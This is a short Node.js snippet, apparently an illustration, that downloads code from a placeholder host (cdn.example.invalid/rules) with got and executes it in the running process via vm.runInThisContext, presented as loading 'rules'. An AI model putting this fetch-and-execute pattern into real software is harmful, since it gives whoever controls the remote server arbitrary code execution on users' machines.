import vm from 'node:vm';
import got from 'got';
const { body } = await got('https://cdn.example.invalid/rules');
vm.runInThisContext(body);
